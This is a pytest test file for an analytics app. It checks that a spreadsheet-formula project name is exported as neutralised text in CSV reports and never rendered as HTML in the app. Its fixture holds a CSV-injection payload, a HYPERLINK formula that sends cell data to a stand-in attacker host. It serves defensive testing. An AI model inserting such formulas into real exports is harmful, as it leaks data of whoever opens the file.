"""Safe exports (issue 8, item 5): a project name that is a spreadsheet formula, imported
from a 17-column cost export, leaves as neutralised text in `report spend --format csv` and
in explore's CSV, with the money still a number; in the app it is only ever text."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from datetime import timedelta
from decimal import Decimal

import pytest
from sqlalchemy import Engine

from analytics import auth
from analytics.access import SYSTEM
from analytics.demo import COST_HEADER_V2
from analytics.explore import explore
from analytics.exports import to_csv
from analytics.ingest import import_sources
from tests.conftest import ROOT
from tests.helpers import open_app
from tests.test_access_pages import _rendered
from tests.test_import_errors import DAY, cost_row_v2, csv_text

FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Refund")'


@pytest.fixture
def formula_store(engine: Engine) -> Engine:
    rows = []
    for n in range(3):
        row = cost_row_v2(DAY + timedelta(days=n), "2.50", "gpt-5-2025-08-07, input", "proj_x",
                          "key_x", "user_x")
        row[COST_HEADER_V2.index("project_name")] = FORMULA
        rows.append(row)
    [result] = import_sources(engine, [("cost.csv", csv_text(COST_HEADER_V2, rows).encode())])
    assert result.ok, result.error
    return engine


def _by_name(text: str) -> dict[str, dict[str, str]]:
    return {r["name"]: r for r in csv.DictReader(io.StringIO(text))}


def test_report_spend_csv_neutralises_the_name(formula_store: Engine, db_url: str) -> None:
    done = subprocess.run([sys.executable, "-m", "analytics", "report", "spend", "--by",
                           "project", "--format", "csv", "--db", db_url], cwd=ROOT,
                          capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, done.stderr
    rows = _by_name(done.stdout)
    assert list(rows) == ["'" + FORMULA]
    assert Decimal(rows["'" + FORMULA]["cost_usd"]) == Decimal("7.50")


def test_explore_csv_neutralises_the_name(formula_store: Engine) -> None:
    result = explore(formula_store, SYSTEM, "project", "month", DAY, DAY + timedelta(days=2))
    text = to_csv(result.table)
    assert FORMULA in text.replace("\"\"", "\"")  # the name is all there ...
    assert ",=HYPERLINK" not in text and ',"=HYPERLINK' not in text  # ... never a formula
    [row] = list(csv.DictReader(io.StringIO(text)))
    assert row["label"] == "'" + FORMULA
    assert float(row["cost_usd"]) == 7.5


@pytest.mark.parametrize("page", ["pages/overview.py", "pages/explore.py"])
def test_the_app_shows_the_name_as_text(formula_store: Engine, db_url: str, page: str,
                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("BURNRATE_DB_URL", db_url)
    monkeypatch.setenv("BURNRATE_COOKIE_KEY", "test-only-key-" + "f" * 40)
    auth.add_user(formula_store, "olivia", "Olivia", "o@x.org", "owner-pass-1", "owner")
    at = open_app("olivia", page)
    assert not at.exception, at.exception
    assert "HYPERLINK" in _rendered(at), "the name is shown"
    assert all(not m.proto.allow_html for m in at.markdown), "never as HTML"
